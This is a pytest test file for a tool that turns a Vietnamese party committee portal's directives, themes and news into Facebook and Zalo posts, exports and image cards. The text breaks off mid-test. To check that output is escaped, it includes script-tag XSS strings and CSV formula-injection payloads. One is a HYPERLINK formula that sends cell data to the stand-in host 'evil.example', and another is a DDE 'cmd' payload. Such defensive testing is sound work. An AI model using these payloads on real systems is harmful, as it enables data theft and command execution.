"""Fanpage posts: limits on hostile input, hashtags, overrides, determinism, exports, refusal."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path

import jinja2
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from bangtin.core.model import (
    Directive,
    DocType,
    NewsItem,
    PostSpec,
    Practice,
    PracticeField,
    Registry,
    Theme,
    Unit,
    Visibility,
)
from bangtin.core.numbers import parse_number
from bangtin.core.spreadsheet import csv_text
from bangtin.features.posts import cards
from bangtin.features.posts import compose as posts
from bangtin.features.posts.compose import (
    FACEBOOK_FOLD,
    FACEBOOK_LIMIT,
    ZALO_DESCRIPTION_LIMIT,
    ZALO_TITLE_LIMIT,
    Post,
    PostOptions,
    compose_posts,
    write_exports,
)
from conftest import MakeSite, directive

ROOT = Path(__file__).resolve().parent.parent
TEMPLATES = ROOT / "src" / "bangtin" / "site" / "templates"
SITE = "https://bangtin.example.vn/"
OPTIONS = PostOptions(
    org_hashtag="Đảng ủy Khối",
    org_name="Đảng ủy Khối Cơ quan và Doanh nghiệp tỉnh Bình Thuận",
)


# --- records built from the sample content --------------------------------------------------


def _read(path: Path) -> tuple[dict[str, object], str]:
    _, head, body = path.read_text(encoding="utf-8-sig").split("---\n", 2)
    return yaml.safe_load(head), body


def _seed_directive() -> Directive:
    meta, body = _read(ROOT / "directives" / "2024" / "2078-cv-duk.md")
    number = parse_number(str(meta["number"]))
    assert number is not None
    return Directive(
        path="directives/2024/2078-cv-duk.md",
        number=number,
        date=meta["date"],  # type: ignore[arg-type]
        type=DocType.CONG_VAN,
        subject=str(meta["subject"]),
        place=str(meta["place"]),
        issuer=str(meta["issuer"]),
        themes=tuple(meta["themes"]),  # type: ignore[arg-type]
        tags=tuple(meta["tags"]),  # type: ignore[arg-type]
        visibility=Visibility(meta["visibility"]),
        body=body,
    )


def _theme(year: int) -> Theme:
    meta, body = _read(ROOT / "content" / "themes" / f"{year}.md")
    return Theme(
        path=f"content/themes/{year}.md",
        year=int(meta["year"]),  # type: ignore[call-overload]
        title=str(meta["title"]),
        hashtags=tuple(meta["hashtags"]),  # type: ignore[arg-type]
        color=str(meta["color"]),
        visibility=Visibility(meta["visibility"]),
        summary=str(meta["summary"]),
        body=body,
    )


def _registry(*extra_themes: Theme) -> Registry:
    units = yaml.safe_load((ROOT / "content" / "units.yml").read_text(encoding="utf-8"))["units"]
    return Registry(
        themes=(_theme(2023), _theme(2024), *extra_themes),
        units=tuple(
            Unit(id=u["id"], name=u["name"], short=u.get("short", ""), code=u.get("code", ""))
            for u in units
        ),
        audience=Visibility.PUBLIC,
    )


def _directive(**changes: object) -> Directive:
    return dataclasses.replace(_seed_directive(), **changes)  # type: ignore[arg-type]


def _by_channel(items: tuple[Post, ...]) -> dict[str, Post]:
    return {p.channel: p for p in items}


def _assert_within_limits(items: tuple[Post, ...]) -> None:
    assert {p.channel for p in items} == {"facebook", "zalo"}
    for post in items:
        assert unicodedata.is_normalized("NFC", post.text)
        assert len(post.title) <= ZALO_TITLE_LIMIT
        assert len(post.description) <= ZALO_DESCRIPTION_LIMIT
        assert len(post.hashtags) <= 5
        assert post.text.endswith(" ".join(post.hashtags))
        assert post.url in post.text
    facebook = _by_channel(items)["facebook"]
    first_line = facebook.text.split("\n", 1)[0]
    assert len(first_line) <= FACEBOOK_FOLD
    assert len(facebook.text) <= OPTIONS.target_length <= FACEBOOK_LIMIT


# --- the sample portal ----------------------------------------------------------------------


def test_seed_directive_posts() -> None:
    items = compose_posts(_seed_directive(), registry=_registry(), site_url=SITE, options=OPTIONS)
    _assert_within_limits(items)
    facebook, zalo = _by_channel(items)["facebook"], _by_channel(items)["zalo"]
    assert facebook.hook == (
        "Công văn số 2078-CV/ĐUK: Đẩy mạnh thực hiện Công văn số 189-CV/TU của Ban Thường vụ Tỉnh ủy"
    )
    assert facebook.text.startswith(facebook.hook + "\n\n")
    # Key points come from the leaf list items, cut at their first clause, Markdown removed.
    assert facebook.points == (
        "Đổi mới công tác tuyên truyền, vận động của các tổ chức",
        "Đổi mới hình thức, phương pháp vận động, tập hợp quần chúng vào tổ chức đoàn, hội",
        "Rà soát các nhiệm vụ trọng tâm, các khâu đột phá đã đề ra tại nghị quyết đại hội của "
        "tổ chức mình để kịp thời triển khai và thực hiện đạt hiệu quả",
        "Lựa chọn, xây dựng, nhân rộng các mô hình, điển hình, cách làm hay",
    )
    for point in facebook.points:
        assert f"• {point}" in facebook.text
    for stray in ("*", "[^", "&", "<", "](", "\u0301"):
        assert stray not in facebook.text
    assert facebook.hashtags == (
        "#NăngLựcCạnhTranh",
        "#ChỉnhTrangĐôThị",
        "#DânVậnKhéo",
        "#ĐoànThể",
        "#ĐảngỦyKhối",
    )
    assert facebook.url == "https://bangtin.example.vn/van-ban/2024/2078-cv-duk/"
    assert facebook.image == "bai-dang/the/van-ban-2024-2078-cv-duk.png"
    assert (facebook.slug, zalo.slug) == (
        "van-ban-2024-2078-cv-duk-facebook",
        "van-ban-2024-2078-cv-duk-zalo",
    )
    assert facebook.source == zalo.source == "2078-CV/ĐUK"
    assert facebook.publish_on == dt.date(2024, 3, 7)
    assert facebook.themes == (2023, 2024)
    assert (
        zalo.description
        == "Đảng ủy Khối Cơ quan và Doanh nghiệp tỉnh ban hành ngày 07 tháng 3 năm 2024."
    )
    assert zalo.text.startswith(zalo.description + "\n\n• Đổi mới công tác")
    assert "Xem chi tiết tại:\nhttps://bangtin.example.vn/van-ban/2024/2078-cv-duk/" in zalo.text


@pytest.mark.parametrize("year", [2023, 2024])
def test_theme_posts(year: int) -> None:
    theme = _theme(year)
    items = compose_posts(theme, registry=_registry(), site_url=SITE, options=OPTIONS)
    _assert_within_limits(items)
    facebook = _by_channel(items)["facebook"]
    assert facebook.hook == f"Chủ đề năm {year}: “{theme.title}”"
    assert facebook.source == str(year)
    assert facebook.hashtags == (*(f"#{t}" for t in theme.hashtags), "#ĐảngỦyKhối")
    # The theme's body has no list: its paragraph that does not repeat the title is the point.
    assert facebook.points == (
        "Các cơ quan, đơn vị lựa chọn, xây dựng, nhân rộng các mô hình, điển hình, cách làm hay "
        "gắn với chủ đề năm",
    )
    assert facebook.url == f"https://bangtin.example.vn/chu-de/{year}/"
    assert facebook.publish_on == dt.date(year, 1, 1)


def test_practice_and_news_posts() -> None:
    practice = Practice(
        path="content/practices/x.md",
        slug="dan-van-kheo-so-hoa",
        title="Dân vận khéo trong chuyển đổi số",
        unit="doan-khoi",
        year=2024,
        field=PracticeField.POLITICAL_SYSTEM,
        themes=(2024,),
        visibility=Visibility.PUBLIC,
        body="- Hướng dẫn đoàn viên dùng dịch vụ công\n- Lập nhóm Zalo hỗ trợ người dân\n",
    )
    news = NewsItem(
        path="content/news/x.md",
        slug="hoi-nghi-so-ket",
        title="Hội nghị sơ kết 6 tháng",
        date=dt.date(2024, 7, 2),
        visibility=Visibility.PUBLIC,
        body="Sáng 02/7, Đảng ủy Khối tổ chức hội nghị sơ kết.",
    )
    p_items = compose_posts(practice, registry=_registry(), site_url=SITE, options=OPTIONS)
    n_items = compose_posts(news, registry=_registry(), site_url="", options=OPTIONS)
    _assert_within_limits(p_items)
    _assert_within_limits(n_items)
    p_fb, n_fb = _by_channel(p_items)["facebook"], _by_channel(n_items)["facebook"]
    assert (
        p_fb.hook
        == "Mô hình “Dân vận khéo trong chuyển đổi số” của Đoàn Khối Cơ quan và Doanh nghiệp tỉnh"
    )
    assert p_fb.points == (
        "Hướng dẫn đoàn viên dùng dịch vụ công",
        "Lập nhóm Zalo hỗ trợ người dân",
    )
    assert p_fb.source == "dan-van-kheo-so-hoa"
    assert p_fb.slug == "mo-hinh-2024-dan-van-kheo-so-hoa-facebook"
    assert p_fb.publish_on == dt.date(2024, 1, 1)
    # Without a site URL the link is site-relative.
    assert n_fb.url == "tin-tuc/2024/hoi-nghi-so-ket/"
    assert n_fb.description == "Sáng 02/7, Đảng ủy Khối tổ chức hội nghị sơ kết."
    assert n_fb.publish_on == dt.date(2024, 7, 2)


# --- hostile input --------------------------------------------------------------------------

LONG_WORD = "Đ" + "ả" * 299
NFD_SUBJECT = unicodedata.normalize("NFD", "Đẩy mạnh thực hiện Công văn về dân vận khéo")
HOSTILE = {
    "2000-char subject": {"subject": ("Tiếp tục đổi mới nội dung phương thức " * 60)[:2000]},
    "300-char word subject": {"subject": LONG_WORD},
    "300-char word in body": {"body": f"- {LONG_WORD}\n- {LONG_WORD} hai\n- ba {LONG_WORD}\n"},
    "emoji": {
        "subject": "🎉🇻🇳 Chào mừng 👨‍👩‍👧 ngày thành lập Đảng 🎉",
        "tags": ("🎉", "vui 🎉 vẻ"),
    },
    "NFD": {
        "subject": NFD_SUBJECT,
        "body": unicodedata.normalize("NFD", "- Đổi mới phương thức vận động\n- Dân vận khéo\n"),
        "tags": (unicodedata.normalize("NFD", "dân vận khéo"),),
    },
    "empty body": {"body": "", "summary": ""},
    "script in subject": {"subject": "<script>alert('x')</script> & “trích yếu”"},
    "long list items": {"body": "\n".join(f"- {'Nội dung rất dài ' * 80}{i}" for i in range(12))},
    "control characters": {
        "subject": "Trích\x00 yếu\x1b[31m đỏ\x0b",
        "body": "- a\x07b\n- c\x0cd\n",
    },
}


@pytest.mark.parametrize("changes", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("emoji", [False, True], ids=["plain", "emoji"])
def test_limits_hold_on_hostile_input(changes: dict[str, object], emoji: bool) -> None:
    options = dataclasses.replace(OPTIONS, emoji=emoji)
    record = _directive(**changes)
    items = compose_posts(record, registry=_registry(), site_url=SITE, options=options)
    _assert_within_limits(items)
    for post in items:
        assert not any(unicodedata.category(ch) == "Cc" and ch != "\n" for ch in post.text)
        for tag in post.hashtags:
            assert tag.startswith("#")
            assert all(ch.isalnum() or ch == "_" for ch in tag[1:])
    # Never cut inside a word, except a single word longer than the limit itself.
    facebook = _by_channel(items)["facebook"]
    full_words = set(posts.plain_line(f"{record.title}: {record.subject}").split())
    hook_words = facebook.hook.removesuffix("…").split()
    assert hook_words
    assert all(w in full_words for w in hook_words[:-1])
    if len(hook_words) > 1:
        assert hook_words[-1].rstrip(",;:.-–") in {w.rstrip(",;:.-–") for w in full_words}


def test_nfd_input_gives_nfc_output() -> None:
    facebook = _by_channel(
        compose_posts(_directive(**HOSTILE["NFD"]), registry=_registry(), options=OPTIONS)
    )["facebook"]
    assert "Đẩy mạnh thực hiện Công văn về dân vận khéo" in facebook.hook
    assert facebook.points == ("Đổi mới phương thức vận động", "Dân vận khéo")
    assert "#DânVậnKhéo" in facebook.hashtags


def test_script_in_subject_stays_literal_text() -> None:
    facebook = _by_channel(
        compose_posts(
            _directive(**HOSTILE["script in subject"]), registry=_registry(), options=OPTIONS
        )
    )["facebook"]
    assert "<script>alert('x')</script> & “trích yếu”" in facebook.hook


def test_2000_char_subject_keeps_its_start_in_the_hook_and_more_in_the_lead() -> None:
    facebook = _by_channel(
        compose_posts(
            _directive(**HOSTILE["2000-char subject"]), registry=_registry(), options=OPTIONS
        )
    )["facebook"]
    assert facebook.hook.startswith("Công văn số 2078-CV/ĐUK: Tiếp tục đổi mới")
    assert facebook.hook.endswith("…")
    assert facebook.description.startswith("Đảng ủy Khối Cơ quan và Doanh nghiệp tỉnh ban hành")
    assert len(facebook.description) == ZALO_DESCRIPTION_LIMIT or facebook.description.endswith("…")


def test_emoji_option_is_sparing_and_counts_towards_the_fold() -> None:
    record = _directive(subject="Chữ " * 80)
    plain = _by_channel(compose_posts(record, registry=_registry(), options=OPTIONS))["facebook"]
    with_emoji = _by_channel(
        compose_posts(
            record, registry=_registry(), options=dataclasses.replace(OPTIONS, emoji=True)
        )
    )["facebook"]
    assert not any(unicodedata.category(ch) == "So" for ch in plain.text)
    assert with_emoji.text.startswith("📢 ")
    assert len(with_emoji.text.split("\n", 1)[0]) <= FACEBOOK_FOLD
    emoji_count = sum(1 for ch in with_emoji.text if unicodedata.category(ch) == "So")
    assert emoji_count <= 2 + len(with_emoji.points)


# --- plain text, clipping, hashtags ---------------------------------------------------------


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("Mô hình “*Dân vận khéo*”[^2]", "Mô hình “Dân vận khéo”"),
        ("**Đậm** và __đậm__, *nghiêng* và _nghiêng_", "Đậm và đậm, nghiêng và nghiêng"),
        ("***Cả hai*** ~~gạch~~ ==tô==", "Cả hai gạch tô"),
        ("[Hướng dẫn 08](../08-hd-bdvtu/) và ![ảnh](a.png)", "Hướng dẫn 08 và ảnh"),
        ("<https://example.vn/a>", "https://example.vn/a"),
        ("<b>in đậm</b> <!-- ghi chú -->xong", "in đậm xong"),
        ("&lt;script&gt; &amp; &quot;x&quot; &nbsp;", '<script> & "x"'),
        ("`mã` snake_case_name a * b", "mã snake_case_name a * b"),
        ("Tiêu đề { #id .lop }", "Tiêu đề"),
        (unicodedata.normalize("NFD", "Đảng ủy"), "Đảng ủy"),
    ],
)
def test_plain_text(markdown: str, expected: str) -> None:
    assert posts.plain_text(markdown) == expected


@pytest.mark.parametrize(
    ("text", "limit", "expected"),
    [
        ("Đẩy mạnh thực hiện Công văn", 15, "Đẩy mạnh thực…"),
        ("Đẩy mạnh thực hiện Công văn", 27, "Đẩy mạnh thực hiện Công văn"),
        ("Đẩy mạnh, thực hiện", 11, "Đẩy mạnh…"),
        ("a" * 300, 10, "a" * 9 + "…"),
        ("ngắn " + "b" * 300, 10, "ngắn…"),
        ("", 10, ""),
    ],
)
def test_clip(text: str, limit: int, expected: str) -> None:
    assert posts.clip(text, limit) == expected
    assert len(posts.clip(text, limit)) <= limit


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("dân vận khéo", "#DânVậnKhéo"),
        ("mạng xã hội", "#MạngXãHội"),
        ("ChỉnhTrangĐôThị", "#ChỉnhTrangĐôThị"),
        ("#XanhSạchĐẹp", "#XanhSạchĐẹp"),
        ("Hội CCB, khối!", "#HộiCCBKhối"),
        ("2024", ""),
        ("🎉", ""),
        ("", ""),
        ("x" * 61, ""),
        (unicodedata.normalize("NFD", "đoàn thể"), "#ĐoànThể"),
    ],
)
def test_hashtag(text: str, expected: str) -> None:
    assert posts.hashtag(text) == expected


def test_hashtags_dedupe_ignoring_case_and_diacritics_and_keep_five_with_the_organisation() -> None:
    record = _directive(
        themes=(2024,),
        tags=("năng lực cạnh tranh", "DAN VAN KHEO", "dân vận khéo", "a", "b", "c", "d"),
    )
    facebook = _by_channel(compose_posts(record, registry=_registry(), options=OPTIONS))["facebook"]
    assert facebook.hashtags == ("#NăngLựcCạnhTranh", "#DANVANKHEO", "#A", "#B", "#ĐảngỦyKhối")
    no_org = dataclasses.replace(OPTIONS, org_hashtag="")
    facebook = _by_channel(compose_posts(record, registry=_registry(), options=no_org))["facebook"]
    assert facebook.hashtags == ("#NăngLựcCạnhTranh", "#DANVANKHEO", "#A", "#B", "#C")


def test_organisation_hashtag_is_not_repeated_by_a_tag() -> None:
    record = _directive(themes=(), tags=("đảng ủy khối", "đoàn thể"))
    facebook = _by_channel(compose_posts(record, registry=_registry(), options=OPTIONS))["facebook"]
    assert facebook.hashtags == ("#ĐoànThể", "#ĐảngỦyKhối")


# --- overrides ------------------------------------------------------------------------------


def test_post_spec_overrides_each_part() -> None:
    spec = PostSpec(
        hook="Chung tay xây dựng “Dân vận khéo” 💪",
        points=("Điểm một", "  Điểm   hai  ", ""),
        hashtags=("Dân vận khéo", "#BìnhThuận"),
        channels=("zalo",),
        publish_on=dt.date(2024, 3, 15),
    )
    items = compose_posts(
        _directive(post=spec), registry=_registry(), site_url=SITE, options=OPTIONS
    )
    assert [p.channel for p in items] == ["zalo"]
    zalo = items[0]
    assert zalo.title == "Chung tay xây dựng “Dân vận khéo” 💪"
    assert zalo.points == ("Điểm một", "Điểm hai")
    assert zalo.hashtags == ("#DânVậnKhéo", "#BìnhThuận", "#ĐảngỦyKhối")
    assert zalo.publish_on == dt.date(2024, 3, 15)

    facebook_only = PostSpec(hook="Móc câu " * 40, channels=("facebook", "twitter"))
    items = compose_posts(_directive(post=facebook_only), registry=_registry(), options=OPTIONS)
    assert [p.channel for p in items] == ["facebook"]
    assert len(items[0].hook) <= FACEBOOK_FOLD
    assert items[0].text.startswith("Móc câu Móc câu")


def test_options_choose_channels_and_call_to_action() -> None:
    options = dataclasses.replace(OPTIONS, channels=("facebook",), cta="Đọc toàn văn:")
    items = compose_posts(_seed_directive(), registry=_registry(), site_url=SITE, options=options)
    assert [p.channel for p in items] == ["facebook"]
    assert (
        "\n\nĐọc toàn văn:\nhttps://bangtin.example.vn/van-ban/2024/2078-cv-duk/\n\n"
        in items[0].text
    )


# --- determinism and exports ----------------------------------------------------------------


def _all_posts(records: list[object] | None = None) -> list[Post]:
    registry = _registry()
    result: list[Post] = []
    for record in records or [_seed_directive(), _theme(2023), _theme(2024)]:
        result.extend(compose_posts(record, registry=registry, site_url=SITE, options=OPTIONS))  # type: ignore[arg-type]
    return result


def test_composition_is_deterministic() -> None:
    first, second = _all_posts(), _all_posts()
    assert first == second
    assert [p.text.encode() for p in first] == [p.text.encode() for p in second]


def test_exports_are_byte_identical_across_builds_and_orders(tmp_path: Path) -> None:
    items = _all_posts()
    a = write_exports(items, tmp_path / "a", site_url=SITE)
    b = write_exports(list(reversed(items)), tmp_path / "b", site_url=SITE)
    assert [p.relative_to(tmp_path / "a") for p in a] == [p.relative_to(tmp_path / "b") for p in b]
    for left, right in zip(a, b, strict=True):
        assert left.read_bytes() == right.read_bytes(), left.name


def test_exports_content(tmp_path: Path) -> None:
    items = _all_posts()
    write_exports(items, tmp_path, site_url=SITE)
    folder = tmp_path / "bai-dang"
    names = sorted(p.name for p in folder.iterdir())
    assert names == sorted(
        [f"{p.slug}.txt" for p in items] + ["feed.xml", "posts.csv", "posts.json"]
    )
    text = (folder / "van-ban-2024-2078-cv-duk-facebook.txt").read_bytes().decode("utf-8")
    facebook = next(p for p in items if p.slug == "van-ban-2024-2078-cv-duk-facebook")
    assert text == facebook.text + "\n"

    rows = json.loads((folder / "posts.json").read_text(encoding="utf-8"))
    assert len(rows) == 6
    # Newest first: the directive (2024-03-07), then the 2024 and 2023 themes (1 January).
    assert [(r["source"], r["channel"]) for r in rows] == [
        ("2078-CV/ĐUK", "facebook"),
        ("2078-CV/ĐUK", "zalo"),
        ("2024", "facebook"),
        ("2024", "zalo"),
        ("2023", "facebook"),
        ("2023", "zalo"),
    ]
    first = rows[0]
    for key in ("channel", "source", "title", "description", "text", "url", "image", "publish_on"):
        assert key in first
    assert first["publish_on"] == "2024-03-07"
    assert first["image"] == "bai-dang/the/van-ban-2024-2078-cv-duk.png"
    assert first["image_url"] == SITE + "bai-dang/the/van-ban-2024-2078-cv-duk.png"
    assert first["text"] == facebook.text

    raw = (folder / "posts.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert list(table[0]) == list(posts.CSV_COLUMNS)
    assert [(r["date"], r["channel"]) for r in table] == [
        (r["publish_on"], r["channel"]) for r in rows
    ]
    assert table[0]["text"] == facebook.text
    assert table[0]["link"] == facebook.url
    assert table[0]["image_url"] == first["image_url"]

    feed = ET.fromstring((folder / "feed.xml").read_bytes())
    assert feed.tag == "rss" and feed.get("version") == "2.0"
    entries = feed.findall("./channel/item")
    assert [e.findtext("guid") for e in entries] == [r["slug"] for r in rows]
    assert entries[0].findtext("description") == facebook.text
    assert entries[0].findtext("pubDate") == "Thu, 07 Mar 2024 07:00:00 +0700"
    assert feed.findtext("./channel/lastBuildDate") == "Thu, 07 Mar 2024 07:00:00 +0700"


def test_feed_and_csv_escape_hostile_text(tmp_path: Path) -> None:
    hostile = _directive(subject='<script>alert(1)</script> & ]]> "x"')
    items = _all_posts([hostile])
    write_exports(items, tmp_path, site_url=SITE)
    raw = (tmp_path / "bai-dang" / "feed.xml").read_bytes()
    assert b"<script>" not in raw
    feed = ET.fromstring(raw)
    assert '<script>alert(1)</script> & ]]> "x"' in (feed.findtext("./channel/item/title") or "")
    table = list(
        csv.reader(io.StringIO((tmp_path / "bai-dang" / "posts.csv").read_text("utf-8-sig")))
    )
    assert "<script>alert(1)</script>" in table[1][2]


# What a spreadsheet runs when a cell begins with it (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_posts_csv_cells_cannot_be_formulas(make_site: MakeSite) -> None:
    link = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
    news = (
        "---\ntitle: '+1+cmd|\" /C calc\"!A0'\ndate: 2024-02-03\nvisibility: public\n"
        "summary: '@SUM(1+1)*cmd'\npost:\n  hook: '-2+3+cmd'\n---\n\nTin.\n"
    )
    site = make_site(
        {
            "directives/2024/9-cv-duk.md": directive(
                "9-CV/ĐUK", "2024-01-02", subject=f"'{link}'", summary="'=1+1'"
            ),
            "content/news/tin.md": news,
            "content/news/tin-2.md": (
                f"---\ntitle: '{link}'\ndate: 2024-02-04\nvisibility: public\n---\n\nTin.\n"
            ),
        },
        audience="public",
    )
    assert site.exit_code == 0, site.output
    raw = (site.site_dir / "bai-dang" / "posts.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) > 4
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    # The text is kept after the quote a spreadsheet shows as text, and each cell is quoted.
    titles = [row[5] for row in rows[1:]]
    assert "'" + link in titles and "'-2+3+cmd" in titles
    assert '"\'=HYPERLINK(""http://evil.example' in raw
    for record in raw.split("\r\n")[1:-1]:  # rows end in CRLF, texts hold LF only
        assert record.startswith('"') and record.endswith('"'), record


def test_posts_csv_escapes_tab_and_carriage_return_starts() -> None:
    post = _all_posts()[0]
    items = [dataclasses.replace(post, title="\t=1+1", text="\r=2+2\nhai dòng")]
    rows = list(csv.reader(io.StringIO(posts.posts_csv(items).decode("utf-8-sig"), newline="")))
    assert rows[1][5] == "'\t=1+1" and rows[1][2] == "'\r=2+2\nhai dòng"


def test_posts_csv_written_again_reuses_each_unchanged_posts_line() -> None:
    # bangtin serve writes posts.csv again when a record leaves the view: every other post's
    # line is kept from the last time, and the file is still csv_text's, byte for byte.
    items = posts.sorted_posts(_all_posts())

    def expected(ordered: list[Post]) -> str:
        rows = [
            (p.publish_on.isoformat(), p.channel, p.text, p.url, SITE + p.image, p.title)
            for p in ordered
        ]
        return "\ufeff" + csv_text(posts.CSV_COLUMNS, rows)

    assert all(p.image for p in items)
    assert posts.posts_csv(items, site_url=SITE).decode("utf-8") == expected(items)
    info = posts._post_csv.cache_info()
    assert posts.posts_csv(items[1:], site_url=SITE).decode("utf-8") == expected(items[1:])
    assert posts._post_csv.cache_info() == info  # every line kept as bytes: none made again


# --- public records only --------------------------------------------------------------------

CANARY = "CANARY-7f3a9c-NỘI-BỘ"


@pytest.mark.parametrize("visibility", [Visibility.INTERNAL, Visibility.CONFIDENTIAL])
def test_non_public_records_make_no_post_card_or_export(
    tmp_path: Path, visibility: Visibility
) -> None:
    secret_theme = Theme(
        path="content/themes/2025.md",
        year=2025,
        title=f"Chủ đề {CANARY}",
        hashtags=(f"Mật{CANARY.replace('-', '')}",),
        color="#123456",
        visibility=visibility,
    )
    registry = _registry(secret_theme)
    secret_number = parse_number("999-CV/ĐUK")
    assert secret_number is not None
    records: list[object] = [
        _directive(
            number=secret_number,
            subject=f"Văn bản {CANARY}",
            body=f"- {CANARY}\n- {CANARY}\n",
            tags=(CANARY,),
            visibility=visibility,
        ),
        secret_theme,
        Practice(
            path="p.md",
            slug="canary",
            title=CANARY,
            unit="doan-khoi",
            year=2024,
            field=PracticeField.ECONOMY,
            visibility=visibility,
        ),
        NewsItem(
            path="n.md",
            slug="canary",
            title=CANARY,
            date=dt.date(2025, 1, 1),
            visibility=visibility,
        ),
        # A public directive that serves the secret theme must not take its hashtags or colour.
        _directive(themes=(2024, 2025)),
        _theme(2024),
    ]
    made: list[Post] = []
    for record in records:
        made.extend(compose_posts(record, registry=registry, site_url=SITE, options=OPTIONS))  # type: ignore[arg-type]
    assert {p.source for p in made} == {"2078-CV/ĐUK", "2024"}
    write_exports(made, tmp_path, site_url=SITE)
    for record in records:
        if compose_posts(record, registry=registry, options=OPTIONS):  # type: ignore[arg-type]
            spec = posts.card_spec(record, registry=registry, options=OPTIONS)  # type: ignore[arg-type]
            assert spec.color != "#123456"
            png = cards.render_card(spec)
            (tmp_path / "bai-dang" / f"{posts.post_stem(record)}.png").write_bytes(png)  # type: ignore[arg-type]
    needle = CANARY.casefold()
    folded_needle = "canary7f3a9c"
    for path in (tmp_path / "bai-dang").iterdir():
        data = path.read_bytes()
        assert CANARY.encode() not in data, path.name
        if path.suffix != ".png":
            content = data.decode("utf-8-sig").casefold()
            assert needle not in content, path.name
            assert folded_needle not in content.replace("-", "").replace("#", ""), path.name
    for post in made:
        assert folded_needle not in post.text.casefold().replace("-", "")


# --- cards made from records ----------------------------------------------------------------


def test_card_spec_of_the_seed_directive_and_a_theme() -> None:
    registry = _registry()
    spec = posts.card_spec(_seed_directive(), registry=registry, options=OPTIONS)
    assert spec.title == "Đẩy mạnh thực hiện Công văn số 189-CV/TU của Ban Thường vụ Tỉnh ủy"
    assert spec.subtitle == "Công văn số 2078-CV/ĐUK · ngày 07 tháng 3 năm 2024"
    assert spec.org == OPTIONS.org_name
    assert spec.color == "#1565c0"  # the newest theme it serves
    theme_spec = posts.card_spec(_theme(2023), registry=registry, options=OPTIONS)
    assert (theme_spec.badge, theme_spec.color) == ("Chủ đề năm 2023", "#2e7d32")
    without_org = posts.card_spec(_seed_directive(), registry=registry)
    assert without_org.org == "Đảng ủy Khối Cơ quan và Doanh nghiệp tỉnh"


# --- templates ------------------------------------------------------------------------------


def _env() -> jinja2.Environment:
    return jinja2.Environment(
        loader=jinja2.FileSystemLoader(TEMPLATES),
        autoescape=True,
        undefined=jinja2.StrictUndefined,
    )


def test_post_box_renders_each_channel_escaped() -> None:
    items = compose_posts(
        _directive(subject="<script>alert(1)</script> “x”"),
        registry=_registry(),
        site_url=SITE,
        options=OPTIONS,
    )
    out = (
        _env()
        .get_template("partials/bangtin/post_box.html")
        .render(posts=items, card_url="../../../bai-dang/the/van-ban-2024-2078-cv-duk.png")
    )
    assert "<script>alert" not in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert out.count("Bài đăng fanpage") >= 2
    assert 'data-limit="63206"' in out and 'data-fold="125"' in out
    assert 'data-limit="150"' in out and 'data-limit="300"' in out
    assert "63.206" in out
    assert 'href="../../../bai-dang/the/van-ban-2024-2078-cv-duk.png" download' in out
    assert "readonly" in out and "data-bangtin-copy" in out
    assert out.count(">Sao chép</button>") == 2
    assert "built-in" not in out and "0x" not in out


def test_listing_page_lists_every_post_with_filters() -> None:
    items = posts.sorted_posts(_all_posts())
    out = (
        _env()
        .get_template("bai-dang.html")
        .render(
            posts=items, total=len(items), themes=_registry().themes, base_url="..", card_url=None
        )
    )
    assert out.count("data-bangtin-post ") == len(items)
    assert "bài mới nhất trong" not in out  # every post is there
    assert 'data-channel="facebook"' in out and 'data-channel="zalo"' in out
    assert 'data-themes="2023 2024"' in out
    assert 'data-filter-theme="2024"' in out and 'data-filter-channel="zalo"' in out
    assert out.index("2078-CV/ĐUK") < out.index("Chủ đề năm 2023")
    assert "../bai-dang/the/van-ban-2024-2078-cv-duk.png" in out
    # Without JS the filters are hidden and every post shows.
    assert "data-bangtin-filters hidden" in out


# --- the sample portal, through the real loader ---------------------------------------------


def test_sample_portal_has_posts_and_cards_for_the_themes_and_the_seed(tmp_path: Path) -> None:
    from PIL import Image

    from bangtin.core.load import load_project

    result = load_project(ROOT, audience=Visibility.PUBLIC)
    assert not result.errors
    registry = result.registry
    records = [*registry.directives, *registry.themes, *registry.practices, *registry.news]
    made: list[Post] = []
    for record in records:
        items = compose_posts(record, registry=registry, site_url=SITE, options=OPTIONS)
        if not items:
            continue
        _assert_within_limits(items)
        assert all(p.hashtags for p in items)
        made.extend(items)
        png = cards.render_card(posts.card_spec(record, registry=registry, options=OPTIONS))
        with Image.open(io.BytesIO(png)) as image:
            assert image.size == (1200, 630)
            assert len(image.convert("RGB").getcolors(1 << 16) or ()) > 10
    assert {(p.source, p.channel) for p in made} >= {
        (source, channel)
        for source in ("2078-CV/ĐUK", "2023", "2024")
        for channel in ("facebook", "zalo")
    }
    seed = next(p for p in made if p.source == "2078-CV/ĐUK" and p.channel == "facebook")
    hand_built = compose_posts(_seed_directive(), registry=registry, site_url=SITE, options=OPTIONS)
    assert seed.text == _by_channel(hand_built)["facebook"].text


# --- which posts get their own card ---------------------------------------------------------


def _card_site(make_site, **plugin: object):  # type: ignore[no-untyped-def]
    files = {
        "directives/2024/2078-cv-duk.md": directive("2078-CV/ĐUK", "2024-03-07"),
        # 181 days before the newest: still recent.
        "directives/2023/900-cv-duk.md": directive("900-CV/ĐUK", "2023-09-08", subject="Gần đây"),
        # A year before: shares the organisation's card.
        "directives/2023/100-cv-duk.md": directive("100-CV/ĐUK", "2023-03-01", subject="Cũ"),
        # As old, but its editor wrote a post for it: its own card.
        "directives/2023/101-cv-duk.md": directive(
            "101-CV/ĐUK", "2023-03-02", subject="Cũ mà đăng", post="{hook: Nhắc lại văn bản cũ}"
        ),
    }
    return make_site(files, plugin={"cards": True, **plugin})


def test_old_directives_share_the_organisation_card(make_site: MakeSite) -> None:
    site = _card_site(make_site)
    assert site.exit_code == 0, site.output
    cards_dir = site.site_dir / "bai-dang" / "the"
    assert sorted(p.name for p in cards_dir.iterdir()) == [
        "chung.png",
